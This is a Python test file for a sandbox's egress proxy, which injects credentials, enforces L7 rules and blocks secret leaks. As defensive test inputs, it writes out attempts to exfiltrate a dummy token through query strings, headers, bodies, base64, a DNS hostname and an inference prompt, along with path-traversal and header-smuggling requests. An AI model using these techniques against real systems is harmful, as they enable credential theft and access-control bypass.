"""Terminated TLS: the sandbox trusts its own CA, the proxy sees each request, applies the
L7 rules, injects the bound credential, and blocks any secret sent anywhere else."""

from __future__ import annotations

import pytest

from hermitcrab.egress.secrets import Secret
from tests.egress.conftest import BODY, RECEIVED_AUTH, local_rule

TOKEN = "ghp_s3cr3tT0kenV4lue"
MASKED = "*" * len(TOKEN)  # what the sandbox sees of it when a server echoes it back


@pytest.fixture
def api(net, run):
    s = net.servers
    net.secrets.set(Secret(name="github", value=TOKEN))
    net.write_policy(
        f"    - name: github-read\n      hosts: [localhost]\n      ports: [{s.https_port}]\n"
        "      allowed_ips: [127.0.0.1]\n      tls: terminate\n      credentials: github\n"
        "      allow: [{methods: [GET], paths: ['/repos/**']}]\n"
        "      deny: [{methods: ['*'], paths: ['/repos/*/*/actions/**']}]\n"
        + local_rule("plain", s.http_port)
    )
    run(net.runtime.create("box"))
    return s


def curl(net, run, *args: str):
    return run(net.runtime.exec("box", ["curl", "-sS", "-m", "20", *args]))


def test_the_credential_is_injected_and_never_seen_inside(net, run, api) -> None:
    # No -k: curl trusts the sandbox CA through CURL_CA_BUNDLE, as every TLS stack does.
    result = curl(net, run, f"https://localhost:{api.https_port}/repos/kelp/reef")
    assert result.exit_code == 0, result
    assert result.stdout == f"GET /repos/kelp/reef auth=Bearer {MASKED}\n".encode()
    assert RECEIVED_AUTH[-1] == f"Bearer {TOKEN}"  # the server had the real one
    env = run(net.runtime.exec("box", ["sh", "-c", "env; cat /proc/self/environ"]))
    assert TOKEN.encode() not in env.stdout
    search = run(net.runtime.exec("box", ["grep", "-rl", TOKEN, "/workspace", "/tmp", "/etc", "/run"]))
    assert search.stdout == b""
    fetch = f"import urllib.request; print(urllib.request.urlopen('https://localhost:{api.https_port}/repos/a/b').read())"
    python = run(net.runtime.exec("box", ["python3", "-c", fetch]))
    assert f"auth=Bearer {MASKED}".encode() in python.stdout and RECEIVED_AUTH[-1] == f"Bearer {TOKEN}"


def test_the_sandbox_cannot_choose_its_own_credential(net, run, api) -> None:
    forged = curl(
        net, run, "-H", "Authorization: Bearer forged", f"https://localhost:{api.https_port}/repos/a/b"
    )
    assert forged.stdout == f"GET /repos/a/b auth=Bearer {MASKED}\n".encode()


def test_l7_rules_on_terminated_tls(net, run, api) -> None:
    base = f"https://localhost:{api.https_port}"
    actions = curl(net, run, f"{base}/repos/a/b/actions/runs")
    assert b"denies GET /repos/a/b/actions/runs" in actions.stdout
    post = curl(net, run, "-X", "POST", "-d", "x=1", f"{base}/repos/a/b")
    assert b"allows no POST /repos/a/b" in post.stdout
    other = curl(net, run, f"{base}/user")
    assert b"allows no GET /user" in other.stdout
    denied = [e for e in net.store.audit.entries() if e.action == "network" and e.outcome == "denied"]
    assert len(denied) == 3 and all(e.rule == "github-read" for e in denied)


@pytest.mark.parametrize(
    ("how", "args"),
    [
        ("query", lambda url: [f"{url}/echo?t={TOKEN}"]),
        ("url-encoded query", lambda url: [f"{url}/echo?t=%67hp_s3cr3tT0kenV4lue"]),
        ("header", lambda url: ["-H", f"X-Leak: {TOKEN}", f"{url}/echo"]),
        ("body", lambda url: ["-d", f"payload={TOKEN}", f"{url}/echo"]),
        ("base64 body", lambda url: ["-d", "Z2hwX3MzY3IzdFQwa2VuVjRsdWU=", f"{url}/echo"]),
    ],
)
def test_a_secret_sent_to_an_endpoint_not_bound_to_it_is_blocked(net, run, api, how, args) -> None:
    result = curl(net, run, *args(f"http://localhost:{api.http_port}"))
    assert b"carries the secret 'github'" in result.stdout, (how, result)
    blocked = [e for e in net.store.audit.entries() if e.action == "network" and e.outcome == "denied"]
    assert blocked and "exfiltration blocked" in blocked[-1].detail


def test_a_missing_secret_is_a_clear_error(net, run, api) -> None:
    net.secrets.remove("github")
    result = curl(net, run, f"https://localhost:{api.https_port}/repos/a/b")
    assert b"no secret named 'github'" in result.stdout and b"hermitcrab secrets set github" in result.stdout


def test_the_sandbox_holds_a_placeholder_the_proxy_swaps(net, run, api) -> None:
    env = run(net.runtime.exec("box", ["sh", "-c", "echo $HERMITCRAB_CREDENTIAL_GITHUB"]))
    assert env.stdout == b"hermitcrab-placeholder-github\n"
    script = 'curl -sS -m 20 -H "Authorization: Bearer $HERMITCRAB_CREDENTIAL_GITHUB" "$0"'
    used = run(net.runtime.exec("box", ["sh", "-c", script, f"https://localhost:{api.https_port}/repos/a/b"]))
    assert used.stdout == f"GET /repos/a/b auth=Bearer {MASKED}\n".encode()


def test_a_secret_in_a_tunnels_host_name_never_leaves(net, run) -> None:
    """A name is data too: resolving ghp-....example.org would carry the secret out in a
    DNS query, before any byte of the tunnel."""
    net.secrets.set(Secret(name="github", value=TOKEN))
    net.write_policy("    - name: wide\n      hosts: ['*.example.org']\n      ports: [443]\n")
    run(net.runtime.create("box"))
    result = curl(net, run, "-k", f"https://{TOKEN.lower()}.example.org/")
    assert result.exit_code != 0 and b"403" in result.stderr, result
    [entry] = [e for e in net.store.audit.entries() if e.action == "network"]
    assert (entry.outcome, entry.rule) == ("denied", "wide")
    assert "exfiltration blocked" in entry.detail and "'github'" in entry.detail


@pytest.mark.parametrize(
    ("path", "answer"),
    [
        ("/repos/a/b/x/../actions/runs", b"is ambiguous"),
        ("/repos/a/b//actions/runs", b"is ambiguous"),
        ("/repos/a/b/..;/b/actions/runs", b"is ambiguous"),
        # An encoded letter is decoded (RFC 3986: the same path), then decided.
        ("/repos/a/b/%61ctions/runs", b"denies GET /repos/a/b/actions/runs"),
        ("/repos/a/b/ACTIONS/runs", b"denies GET /repos/a/b/ACTIONS/runs"),  # deny ignores case
    ],
)
def test_a_path_the_server_would_read_otherwise_is_not_let_through(net, run, api, path, answer) -> None:
    # Each of these reaches /repos/a/b/actions/runs on some server.
    result = curl(net, run, "--path-as-is", f"https://localhost:{api.https_port}{path}")
    assert answer in result.stdout, result


def test_the_host_and_credential_are_the_proxys_not_the_clients(net, run, api) -> None:
    s = api
    net.write_policy(
        f"    - name: open\n      hosts: [localhost]\n      ports: [{s.https_port}]\n"
        "      allowed_ips: [127.0.0.1]\n      tls: terminate\n      credentials: github\n"
    )
    assert net.runtime.reload_policy()["applied"]
    seen = curl(
        net, run,
        "-H", "Host: other-tenant.example", "-H", "Connection: keep-alive, Authorization",
        "-H", "X-Echo: $PH", "-H", "X-Echo2: hermitcrab-placeholder-github",
        f"https://localhost:{s.https_port}/headers",
    ).stdout.decode()  # fmt: skip
    assert f"Host: localhost:{s.https_port}\n" in seen and "other-tenant" not in seen
    assert f"Authorization: Bearer {MASKED}\n" in seen and TOKEN not in seen  # echoed, masked
    assert RECEIVED_AUTH[-1] == f"Bearer {TOKEN}"  # Connection could not name it away
    assert "X-Echo2: hermitcrab-placeholder-github\n" in seen  # a placeholder elsewhere stays one
    absolute = curl(net, run, "--request-target", "https://elsewhere.example/headers",
                    f"https://localhost:{s.https_port}/headers")  # fmt: skip
    assert b"this connection is to localhost" in absolute.stdout


def test_no_secret_rides_out_in_a_prompt(net, run, api) -> None:
    """inference.local may lead to a remote provider's model: prompts are screened too."""
    from hermitcrab.egress.forward import InferenceRoute

    net.runtime.egress.inference = InferenceRoute("127.0.0.1", api.http_port, lambda: "gateway-token")
    url = "http://inference.local/v1/chat/completions"
    assert curl(net, run, "-d", '{"messages": "hi"}', url).stdout == BODY
    leak = curl(net, run, "-d", f'{{"messages": "remember {TOKEN}"}}', url)
    assert b"carries the secret 'github'" in leak.stdout, leak


def test_a_big_body_is_screened_off_the_event_loop_and_a_huge_one_refused(net, run, api, monkeypatch) -> None:
    """16 MiB of '%' to inference.local once stalled the gateway for 18 s: percent-decoding
    it ran on the event loop. A big body is now screened on a worker thread, and one larger
    than the gateway's API takes is refused before any screen."""
    import threading

    from hermitcrab.egress import screen
    from hermitcrab.egress.forward import InferenceRoute

    net.runtime.egress.inference = InferenceRoute("127.0.0.1", api.http_port, lambda: "t", 512 * 1024)
    screened_on: list[int] = []
    real = screen.find_secret

    def watched(values, *texts):  # type: ignore[no-untyped-def]
        screened_on.append(threading.get_ident())
        return real(values, *texts)

    monkeypatch.setattr(screen, "find_secret", watched)
    loop_thread = threading.get_ident()  # the test's loop runs the proxy, on this thread
    url = "http://inference.local/v1/chat/completions"
    run(net.runtime.exec("box", ["sh", "-c", "head -c 300000 /dev/zero | tr '\\\\0' % > /tmp/big"]))
    assert curl(net, run, "--data-binary", "@/tmp/big", url).stdout == BODY
    assert screened_on and screened_on[-1] != loop_thread
    small = curl(net, run, "-d", '{"messages": "hi"}', url)
    assert small.stdout == BODY and screened_on[-1] == loop_thread  # a small one stays cheap inline
    run(net.runtime.exec("box", ["sh", "-c", "head -c 600000 /dev/zero > /tmp/huge"]))
    refused = curl(net, run, "-w", "%{http_code}", "--data-binary", "@/tmp/huge", url)
    assert refused.stdout.endswith(b"413") and b"at most 524288 bytes" in refused.stdout


def test_a_credential_never_goes_out_in_clear_text(net, run, api) -> None:
    """A plain http:// request to the port of a rule that binds a credential once went out
    over plain TCP with the secret in it."""
    net.write_policy(
        f"    - name: bound\n      hosts: [localhost]\n      ports: [{api.http_port}]\n"
        "      allowed_ips: [127.0.0.1]\n      tls: terminate\n      credentials: github\n"
    )
    assert net.runtime.reload_policy()["applied"]
    result = curl(net, run, "-w", "%{http_code}", f"http://localhost:{api.http_port}/headers")
    assert result.stdout.endswith(b"403") and b"never in clear text" in result.stdout
    assert TOKEN.encode() not in result.stdout


def test_a_method_override_header_never_reaches_a_server_under_l7_rules(net, run, api) -> None:
    """A GET the rule allows, that a framework would run as DELETE."""
    url = f"https://localhost:{api.https_port}/repos/kelp/reef"
    result = curl(net, run, "-w", "%{http_code}", "-H", "X-HTTP-Method-Override: DELETE", url)
    assert result.stdout.endswith(b"400") and b"another method than the rule saw" in result.stdout
    assert curl(net, run, url).stdout == f"GET /repos/kelp/reef auth=Bearer {MASKED}\n".encode()


def test_a_secret_split_between_chunks_is_masked_too() -> None:
    import asyncio
    import base64

    from hermitcrab.egress.screen import masking as _masking

    secrets = (TOKEN.encode(), base64.b64encode(TOKEN.encode()))
    pieces = [b"echo: Bearer ghp_s3c", b"r3tT0k", b"enV4lue and ", base64.b64encode(TOKEN.encode())[:9],
              base64.b64encode(TOKEN.encode())[9:] + b" end"]  # fmt: skip

    async def stream():  # type: ignore[no-untyped-def]
        for piece in pieces:
            yield piece

    async def read() -> bytes:
        return b"".join([chunk async for chunk in _masking(stream(), secrets)])

    out = asyncio.run(read())
    assert len(out) == len(b"".join(pieces))  # lengths kept: a Content-Length stays true
    assert TOKEN.encode() not in out and base64.b64encode(TOKEN.encode()) not in out
    assert out.startswith(b"echo: Bearer ****") and out.endswith(b" end")
